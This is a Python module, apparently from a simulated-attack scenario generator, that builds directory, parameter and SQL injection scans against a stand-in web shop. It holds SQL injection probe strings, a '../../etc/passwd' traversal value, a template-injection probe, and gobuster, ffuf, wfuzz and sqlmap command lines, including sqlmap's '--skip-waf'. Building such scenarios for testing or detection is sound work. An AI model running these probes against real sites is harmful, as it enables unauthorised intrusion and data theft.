"""Attacks on the shop's pages: what is there that nobody links to, what parameters there are, and what SQL they reach.

Owns: command lines of the tools, the words and probes that they try. Refuses: to try what would change anything.
"""

from __future__ import annotations

from urllib.parse import quote_plus

from attacks.base import API, SHOP, AttackSpec, Hosts, Program, Scene, asked, json_lines, listed, url, wfuzz
from scenario import tool

NAMES = (
    "admin", "api", "app", "assets", "auth", "backup", "bin", "blog", "cache", "cgi-bin", "config", "console", "css",
    "data", "db", "debug", "dev", "docs", "download", "dump", "env", "etc", "export", "files", "forum", "git", "health",
    "help", "home", "hidden", "images", "import", "include", "info", "install", "internal", "js", "lib", "log", "login",
    "logs", "mail", "manage", "media", "metrics", "mysql", "new", "node", "old", "panel", "php", "phpmyadmin", "portal",
    "private", "proxy", "public", "report", "reset", "root", "scripts", "search", "secret", "secure", "server", "setup",
    "shell", "shop", "sql", "src", "staff", "static", "stats", "status", "store", "svn", "swagger", "system", "temp",
    "test", "tmp", "tools", "upload", "user", "users", "vendor", "web", "webmail", "wiki", "wp-admin", "wp-login",
    "xml",
)
ENDINGS = ("", "/", ".php", ".bak", ".html", ".zip", ".old", ".txt", "~", "-2", "_old", "1")
PARAMETERS = ("id", "page", "q", "debug", "user", "file", "path", "cmd", "sort", "lang", "next", "url", "token",
              "order", "limit", "offset", "admin", "test", "view", "callback", "filter", "format", "key", "mode",
              "name")
VALUES = ("1", "true", "../../etc/passwd", "admin", "%00", "-1", "{{7*7}}", "<x>")
PROBES = (
    "'", "\"", "1'", "1' or '1'='1", "1 or 1=1", "1) or (1=1", "' or 1=1-- ", "\" or \"\"=\"", "1' and '1'='2",
    "1 and 1=2",
    "1' order by {n}-- ", "1 order by {n}", "1' union select {list}-- ", "-1 union all select {list}",
    "1;select {n}", "1' and (select count(*) from sqlite_master)>{n}-- ", "1 and length(sqlite_version())>{n}",
    "1' and substr(sqlite_version(),{n},1)='3", "case when {n}>1 then 1 else 2 end", "1'||'{n}", "1%27%20or%20{n}={n}",
)


def words(scene: Scene, count: int) -> list[str]:
    """Names to try, some of which exist."""
    all_names = [f"{name}{ending}" for name in NAMES for ending in ENDINGS]
    return scene.rng.sample(all_names, min(count, len(all_names)))


def quoted(scene: Scene, count: int) -> list[str]:
    """Probes as a list for a tool."""
    return [quote_plus(probe) for probe in probes(scene, count)]


def probes(scene: Scene, count: int) -> list[str]:
    """What is put where a number or a word should be."""
    rng = scene.rng
    return [rng.choice(PROBES).format(n=rng.randrange(1, 9), list=",".join("1" * rng.randrange(1, 6)))
            for _ in range(count)]


def each(
    scene: Scene, hosts: Hosts, targets: list[str], rate: float, keep: bool, tls: bool, host: str = SHOP
) -> list[Program]:
    """A script that asks for each target once."""
    rows = json_lines(scene, "targets", ({"method": "GET", "target": target} for target in targets))
    return asked(scene, hosts, rows, len(targets), rate, keep=keep, tls=tls, host=host)


def gobuster(scene: Scene, mode: str, names: list[str], threads: int, delay_ms: int, *target: str) -> list[Program]:
    """gobuster with some threads."""
    slower = ("--delay", f"{delay_ms}ms") if delay_ms else ()
    return [Program(("gobuster", mode, "-q", "-w", str(listed(scene, "names", names)), "-t", str(threads), *slower,
                     *target))]


def ffuf(scene: Scene, lines: list[str], threads: int, pause_s: float, target: str) -> list[Program]:
    """ffuf; each thread waits `pause_s` between two requests."""
    slower = ("-p", str(pause_s)) if pause_s else ()
    return [Program(("ffuf", "-s", "-w", str(listed(scene, "fuzz", lines)), "-t", str(threads), *slower, "-mc", "all",
                     "-u", target))]


@tool("directories", "gobuster")
def directories_gobuster(
    scene: Scene, _: AttackSpec, __: Hosts, *, names: int, threads: int = 10, delay_ms: int = 0
) -> list[Program]:
    """Pages that nobody links to."""
    return gobuster(scene, "dir", words(scene, names), threads, delay_ms, "-u", url(scene, ""))


@tool("directories", "ffuf")
def directories_ffuf(
    scene: Scene, _: AttackSpec, __: Hosts, *, names: int, threads: int = 10, pause_s: float = 0.0
) -> list[Program]:
    """Pages that nobody links to."""
    return ffuf(scene, words(scene, names), threads, pause_s, url(scene, "/FUZZ"))


@tool("directories", "dirb")
def directories_dirb(scene: Scene, _: AttackSpec, __: Hosts, *, names: int, delay_ms: int = 0) -> list[Program]:
    """One after another over one connection."""
    slower = ("-z", str(delay_ms)) if delay_ms else ()
    return [Program(("dirb", url(scene, "/"), str(listed(scene, "names", words(scene, names))), "-S", "-r", *slower))]


@tool("directories", "wfuzz")
def directories_wfuzz(
    scene: Scene, _: AttackSpec, __: Hosts, *, names: int, threads: int = 4, pause_s: float = 0.0
) -> list[Program]:
    """Pages that nobody links to."""
    return wfuzz(listed(scene, "fuzz", words(scene, names)), threads, pause_s, url(scene, "/FUZZ"))


@tool("directories", "script")
def directories_script(scene: Scene, _: AttackSpec, hosts: Hosts, *, names: int, rate: float, keep: bool = False,
                       tls: bool = False) -> list[Program]:
    """From all addresses in turn, as a browser."""
    return each(scene, hosts, [f"/{name}" for name in words(scene, names)], rate, keep, tls)


@tool("parameters", "ffuf")
def parameters_ffuf(
    scene: Scene, _: AttackSpec, __: Hosts, *, tries: int, threads: int = 8, pause_s: float = 0.0
) -> list[Program]:
    """Which parameters a page knows."""
    return ffuf(scene, tried(scene, tries), threads, pause_s, url(scene, "/item?FUZZ"))


@tool("parameters", "wfuzz")
def parameters_wfuzz(
    scene: Scene, _: AttackSpec, __: Hosts, *, tries: int, threads: int = 3, pause_s: float = 0.0
) -> list[Program]:
    """Which parameters a page knows."""
    return wfuzz(listed(scene, "fuzz", tried(scene, tries)), threads, pause_s, url(scene, "/search?FUZZ"))


@tool("parameters", "script")
def parameters_script(scene: Scene, _: AttackSpec, hosts: Hosts, *, tries: int, rate: float, keep: bool = False,
                      tls: bool = False) -> list[Program]:
    """Which parameters the API knows."""
    return each(scene, hosts, [f"/api/items?{pair}" for pair in tried(scene, tries)], rate, keep, tls, host=API)


def tried(scene: Scene, count: int) -> list[str]:
    """Pairs of a parameter and a value, all different."""
    names = [f"{name}{ending}" for ending in ("", "2", "_id", "[]", "Id") for name in PARAMETERS]
    pairs = [f"{name}={quote_plus(value)}" for name in names for value in VALUES]
    return scene.rng.sample(pairs, min(count, len(pairs)))


@tool("sql", "sqlmap")
def sql_sqlmap(scene: Scene, _: AttackSpec, __: Hosts, *, level: int = 1, technique: str = "BE", delay_s: float = 0.0,
               page: str = "/item?id=1") -> list[Program]:
    """sqlmap; what it may try is bounded by its level and techniques."""
    slower = ("--delay", str(delay_s)) if delay_s else ()
    return [Program(("sqlmap", "--batch", "--disable-coloring", "--flush-session", "--skip-waf", "--retries", "1",
                     "--timeout", "10", "--level", str(level), "--risk", "1", "--technique", technique, *slower,
                     "-u", url(scene, page)))]


@tool("sql", "wfuzz")
def sql_wfuzz(
    scene: Scene, _: AttackSpec, __: Hosts, *, tries: int, threads: int = 3, pause_s: float = 0.0
) -> list[Program]:
    """Probes of a list."""
    return wfuzz(listed(scene, "fuzz", quoted(scene, tries)), threads, pause_s, url(scene, "/search?q=FUZZ"))


@tool("sql", "ffuf")
def sql_ffuf(
    scene: Scene, _: AttackSpec, __: Hosts, *, tries: int, threads: int = 5, pause_s: float = 0.0
) -> list[Program]:
    """Probes of a list."""
    return ffuf(scene, quoted(scene, tries), threads, pause_s, url(scene, "/item?id=FUZZ"))


@tool("sql", "script")
def sql_script(scene: Scene, _: AttackSpec, hosts: Hosts, *, tries: int, rate: float, keep: bool = False,
               tls: bool = False) -> list[Program]:
    """Probes of several parameters, from all addresses in turn."""
    pages = ("/item?id=", "/search?q=", "/api/search?q=")
    targets = [f"{scene.rng.choice(pages)}{probe}" for probe in quoted(scene, tries)]
    return each(scene, hosts, targets, rate, keep, tls)
